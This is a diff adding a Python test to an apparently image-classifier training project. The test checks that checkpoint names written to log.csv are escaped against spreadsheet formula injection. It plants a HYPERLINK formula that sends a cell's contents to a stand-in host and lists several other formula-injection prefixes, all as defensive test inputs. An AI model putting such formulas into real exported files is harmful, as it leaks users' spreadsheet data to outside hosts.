@@ -7,6 +7,7 @@ synthetic MNIST.
 from __future__ import annotations
 
 import base64
+import csv
 import errno
 import gzip
 import io
@@ -42,7 +43,7 @@ from capsviz.cnn import CNNConfig
 from capsviz.data import DataUnavailableError, load_mnist
 from capsviz.model import CapsNet, CapsNetConfig
 from capsviz.preprocess import ink_map, open_image, to_mnist
-from capsviz.train import NonFiniteLossError, RunFolderError, TrainConfig, train
+from capsviz.train import NonFiniteLossError, RunFolderError, TrainConfig, csv_cell, train
 
 from conftest import NEEDS_APP, REPO, TINY_CAPSNET, routing_report
 from drawings import draw_digit
@@ -550,6 +551,24 @@ def test_logs_are_written_atomically(good_run, splits, tmp_path, monkeypatch):
     # the checkpoint is whole: the old epoch 2, or epoch 3 ahead of the logs (which a resume rewrites from it)
     checkpoint = (out / "last.safetensors").read_bytes()
     assert checkpoint == before["last.safetensors"] or load_checkpoint(out / "last.safetensors")[1]["epochs"] == 3
+
+
+def test_a_checkpoint_name_a_spreadsheet_would_run_as_a_formula_is_written_to_log_csv_as_text(
+    good_run, splits, tmp_path
+):
+    out = tmp_path / "run"
+    out.mkdir()
+    last = out / "last.safetensors"
+    last.write_bytes(good_run.read_bytes())
+    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
+    with_card(last, lambda card: card["history"][0].update(checkpoint=formula))  # a resumed card's history row
+    train(*splits, out, tiny_config(epochs=2), resume=last)
+    rows = list(csv.DictReader(io.StringIO((out / "log.csv").read_text(), newline="")))
+    assert [row["checkpoint"] for row in rows] == ["'" + formula, str(last)]
+    assert json.loads((out / "log.json").read_text())[0]["checkpoint"] == formula  # JSON keeps the text as it is
+    for cell in ("+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_cell(cell) == "'" + cell
+    assert csv_cell(-0.5) == -0.5 and csv_cell("runs/a/last.safetensors") == "runs/a/last.safetensors"
 
 
 # --- image bombs are refused before decoding; an upload is decoded once ---------------------
